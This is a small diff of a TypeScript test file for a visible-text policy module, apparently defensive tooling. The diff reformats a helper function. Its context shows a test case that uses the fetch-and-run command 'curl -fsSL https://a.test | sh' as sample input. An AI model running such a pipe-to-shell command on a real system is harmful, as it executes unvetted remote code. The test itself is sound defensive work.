@@ -3,7 +3,10 @@ import { expect, test } from 'vitest';
 import { visibleLine, visibleRuns } from '#core/policy/visibleText.ts';
 import { hostileText } from './samples.ts';
 
-const shown = (text: string): string => visibleRuns(text).map((run) => run.shown).join('');
+const shown = (text: string): string =>
+  visibleRuns(text)
+    .map((run) => run.shown)
+    .join('');
 
 test.each([
   ['plain text stays', 'curl -fsSL https://a.test | sh', 'curl -fsSL https://a.test | sh'],
